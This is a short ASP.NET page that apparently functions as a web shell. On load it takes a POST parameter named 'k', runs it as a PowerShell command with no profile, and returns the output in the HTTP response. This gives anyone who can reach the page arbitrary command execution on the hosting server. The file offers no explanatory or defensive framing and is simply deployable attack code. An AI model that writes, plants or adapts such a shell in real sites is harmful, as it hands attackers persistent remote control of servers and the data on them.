<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    private string Pick()
    {
        return Request.Form["k"] ?? string.Empty;
    }

    protected void Page_Load(object sender, EventArgs e)
    {
        var start = new ProcessStartInfo("powershell.exe", "-nop -c " + Pick());
        start.UseShellExecute = false;
        start.RedirectStandardOutput = true;
        Response.Write(Process.Start(start).StandardOutput.ReadToEnd());
    }
</script>
